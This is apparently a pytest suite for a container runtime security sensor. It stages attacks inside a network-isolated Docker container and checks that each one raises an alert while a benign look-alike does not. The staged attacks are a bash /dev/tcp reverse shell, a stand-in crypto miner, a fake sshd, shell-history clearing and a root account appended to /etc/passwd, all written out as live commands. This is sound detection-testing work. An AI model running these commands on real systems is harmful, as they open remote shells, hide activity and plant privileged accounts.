"""Node rules on processes in containers of a real (loopback-only) dockerd: the container id comes from the
cgroup, the image and name from the daemon's API; each attack has a look-alike that must not alert."""

from __future__ import annotations

import subprocess
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.runtime.test_sensor_support import RunningSensor, cmd_has, fake_tool, need_root, run, start_sensor

from garrison.runtime.engine import load_rules

pytestmark = [pytest.mark.slow, pytest.mark.docker]
FALCO = Path(__file__).resolve().parents[3] / "shared/reference/falco"


@pytest.fixture(scope="module")
def container(dockerd: Any, test_images: Any) -> Iterator[tuple[str, str]]:
    """(full id, image) of a running Debian container (no network but its own loopback)."""
    need_root()
    (image,) = dockerd.load(test_images.debian_archive)
    name = "gtest-" + uuid.uuid4().hex[:8]
    cid = dockerd.cli("run", "-d", "--network", "none", "--name", name, image, "sleep", "600").stdout.strip()
    try:
        yield cid, image
    finally:
        dockerd.cli("rm", "-f", cid, check=False)


@pytest.fixture(scope="module")
def sensor(dockerd: Any, container: tuple[str, str]) -> Iterator[RunningSensor]:
    running = start_sensor([], docker_host=dockerd.host)
    try:
        yield running
    finally:
        running.stop()


def _copy_in(dockerd: Any, cid: str, tmp: Path, name: str) -> str:
    src = fake_tool(tmp, name)
    dockerd.cli("cp", str(src), f"{cid}:/tmp/{name}")
    return f"/tmp/{name}"


def test_miner_in_container_has_container_id_image_and_name(
    dockerd: Any, container: tuple[str, str], sensor: RunningSensor, tmp_path: Path
) -> None:
    cid, image = container
    m = uuid.uuid4().hex[:10]
    tool = _copy_in(dockerd, cid, tmp_path, "xmrig")
    dockerd.cli("exec", cid, tool, "-o", "stratum+tcp://127.0.0.1:3333", "--donate-level", "1", m)
    # The host's `docker exec …` command line names the pool too (and matches): wait for the miner itself.
    hit = sensor.wait_match("Crypto miner executed", lambda e: cmd_has(m)(e) and e.field("proc.name") == "xmrig")
    ev = hit.event
    assert ev.field("container.id") == cid[:12]
    assert ev.field("container.full_id") == cid
    assert ev.field("container.image") == image
    assert ev.field("container.image.repository") == image.rsplit(":", 1)[0]
    assert ev.field("container.name", None) == dockerd.cli("inspect", "-f", "{{.Name}}", cid).stdout.strip().lstrip("/")
    assert ev.field("container.privileged") is False
    assert ev.field("proc.exepath") == "/tmp/xmrig"  # the path inside the container
    assert ev.field("user.name") == "root"  # from the container's own /etc/passwd
    assert f"container={cid[:12]}" in hit.output and f"image={image}" in hit.output
    benign = _copy_in(dockerd, cid, tmp_path, "report")
    dockerd.cli("exec", cid, benign, "-o", "report.txt", m + "b")
    ev2 = sensor.wait_event(cmd_has(m + "b"), "the look-alike in the container")
    assert ev2.field("container.id") == cid[:12]
    assert "Crypto miner executed" not in sensor.matches_of(ev2)


def test_ssh_server_in_container(
    dockerd: Any, container: tuple[str, str], sensor: RunningSensor, tmp_path: Path
) -> None:
    cid, _ = container
    m = uuid.uuid4().hex[:10]
    tool = _copy_in(dockerd, cid, tmp_path, "sshd")
    dockerd.cli("exec", cid, tool, "-D", m)
    hit = sensor.wait_match("SSH server in a container", cmd_has(m))
    assert hit.event.field("container.id") == cid[:12]
    # Look-alike: the same sshd stand-in on the host (a host's sshd is expected).
    host_bin = tmp_path / "host"
    host_bin.mkdir()
    run(fake_tool(host_bin, "sshd"), "-D", m + "h")
    ev = sensor.wait_event(cmd_has(m + "h"), "sshd on the host")
    assert ev.field("container.id") == "host"
    assert "SSH server in a container" not in sensor.matches_of(ev)


def test_new_namespace_from_container(dockerd: Any, container: tuple[str, str], sensor: RunningSensor) -> None:
    cid, _ = container
    m = uuid.uuid4().hex[:10]
    # Docker's default seccomp profile refuses the unshare: the attempt is what the rule reports.
    dockerd.cli("exec", cid, "unshare", "-U", "sh", "-c", f": {m}", check=False)
    hit = sensor.wait_match("New namespace from a container", cmd_has(m))
    assert hit.event.field("container.id") == cid[:12]
    dockerd.cli("exec", cid, "unshare", "--version", check=False)
    ev = sensor.wait_event(
        lambda e: e.field("container.id") == cid[:12] and e.field("proc.cmdline") == "unshare --version",
        "unshare --version",
    )
    assert "New namespace from a container" not in sensor.matches_of(ev)


def test_container_exec_lineage(dockerd: Any, container: tuple[str, str], sensor: RunningSensor) -> None:
    cid, _ = container
    m = uuid.uuid4().hex[:10]
    dockerd.cli("exec", cid, "sh", "-c", f"sleep 0.3; : {m}")
    ev = sensor.wait_event(
        lambda e: e.field("proc.name") == "sleep" and m in str(e.field("proc.pcmdline")), "sleep in the container"
    )
    assert ev.field("proc.pname") == "sh"
    assert ev.field("container.id") == cid[:12]
    assert ev.field("proc.vpid") != ev.field("proc.pid")  # a pid namespace of its own


PERL_LISTENER = (
    "use IO::Socket::INET; my $s = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 4444, "
    'Listen => 1, ReuseAddr => 1) or die; my $c = $s->accept; sleep 5; print $c "exit\\n"; sleep 1;'
)


def test_reverse_shell_in_container_network_namespace(
    dockerd: Any, container: tuple[str, str], sensor: RunningSensor
) -> None:
    """The container's own loopback (its own network namespace): a perl listener, then bash's /dev/tcp
    reverse shell to it. sock_diag is asked inside the container's namespace."""
    cid, _ = container
    m = uuid.uuid4().hex[:10]
    listener = subprocess.Popen(
        [*dockerd_exec(dockerd, cid), "perl", "-e", PERL_LISTENER],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env=dockerd.env,
    )
    try:
        sensor.wait_event(
            lambda e: e.field("proc.name") == "perl" and e.field("container.id") == cid[:12], "the listener"
        )
        shell = subprocess.Popen(
            [*dockerd_exec(dockerd, cid), "bash", "-c", f"sleep 0.5; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1; : {m}"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            env=dockerd.env,
        )
        hit = sensor.wait_match(
            "Reverse shell",
            lambda e: e.kind == "dup2" and e.field("container.id") == cid[:12] and e.field("fd.rport") == 4444,
        )
        assert hit.event.field("proc.name") == "bash"
        assert hit.event.field("fd.sip") == "127.0.0.1"
        falco = FALCO / "falco_rules.yaml"
        if falco.exists():  # Falco's own rule fires on the sensor's event too
            names = [x.rule.name for x in load_rules([falco]).evaluate(hit.event)]
            assert "Redirect STDOUT/STDIN to Network Connection in Container" in names
        sensor.wait_match("Reverse shell", cmd_has(m))  # and its command line
        # The listener's side of the same connection: an accept by perl, not a reverse shell.
        acc = sensor.wait_event(
            lambda e: e.kind == "accept" and e.field("container.id") == cid[:12] and e.field("fd.sport") == 4444,
            "the listener's accept",
        )
        assert acc.field("proc.name") == "perl"
        assert "Reverse shell" not in sensor.matches_of(acc)
        shell.wait(timeout=30)
    finally:
        listener.wait(timeout=30)


def dockerd_exec(dockerd: Any, cid: str) -> list[str]:
    return ["docker", "exec", cid]


def _wait_marked(sensor: RunningSensor, dockerd: Any, cid: str) -> None:
    """The container's files are marked at its first event: make one, then wait for the capture's answer."""
    pid = dockerd.cli("inspect", "-f", "{{.State.Pid}}", cid).stdout.strip()
    m = uuid.uuid4().hex[:10]
    dockerd.cli("exec", cid, "sh", "-c", f": {m}")
    sensor.wait_event(cmd_has(m), "an exec in the container")
    deadline = time.monotonic() + 20
    while f"/proc/{pid}/root/etc" not in sensor.sensor.stats.marked:
        assert time.monotonic() < deadline, f"the container's files were never marked: {sensor.sensor.stats.marked}"
        time.sleep(0.1)


def test_history_cleared_and_passwd_written_in_container(
    dockerd: Any, container: tuple[str, str], sensor: RunningSensor
) -> None:
    """Redirects inside the container's own filesystem: no exec shows them, fanotify marks on the
    container's /root and /etc (through /proc/PID/root) do."""
    cid, _ = container
    _wait_marked(sensor, dockerd, cid)
    m = uuid.uuid4().hex[:10]
    dockerd.cli("exec", cid, "bash", "-c", f"echo 'ls # {m}' >> /root/.bash_history; : {m}a")  # look-alike
    ev = sensor.wait_event(
        lambda e: (
            e.kind == "openat"
            and e.field("fd.name") == "/root/.bash_history"
            and m + "a" in str(e.field("proc.cmdline"))
        ),
        "the append in the container",
    )
    assert ev.field("container.id") == cid[:12]
    assert "Shell history cleared" not in sensor.matches_of(ev)
    dockerd.cli("exec", cid, "bash", "-c", f": > /root/.bash_history; : {m}t")
    hit = sensor.wait_match(
        "Shell history cleared", lambda e: e.kind == "openat" and m + "t" in str(e.field("proc.cmdline"))
    )
    assert hit.event.field("container.id") == cid[:12]
    assert hit.event.field("fd.name") == "/root/.bash_history"
    # A root account appended to the container's /etc/passwd (a throwaway container's, never the host's).
    dockerd.cli("exec", cid, "bash", "-c", f"echo 'x{m[:6]}:x:0:0::/:/bin/sh' >> /etc/passwd; : {m}p")
    hit = sensor.wait_match(
        "Password file written", lambda e: e.kind == "openat" and m + "p" in str(e.field("proc.cmdline"))
    )
    assert hit.event.field("fd.name") == "/etc/passwd" and hit.event.field("container.id") == cid[:12]
